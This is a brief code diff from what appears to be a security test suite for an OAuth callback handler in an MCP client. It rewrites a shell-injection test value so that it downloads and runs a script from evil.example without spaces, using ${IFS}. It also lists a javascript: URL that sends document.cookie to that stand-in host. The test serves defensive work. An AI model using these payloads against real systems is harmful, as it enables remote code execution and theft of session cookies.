@@ -236,7 +236,8 @@ async def _an_error(oauth: OAuthHandler, callback: str) -> McpOAuthError | None:
 
 # -- 14 ------------------------------------------------------------------------------------------------------------
 
-_COMMAND = "$(curl -s evil.example|sh)"
+# Without a space, which no URL has.
+_COMMAND = "$(curl${IFS}evil.example|sh)"
 _URLS = (
     "javascript:fetch('//evil.example/?'+document.cookie)",
     "file:///C:/Windows/System32/calc.exe",
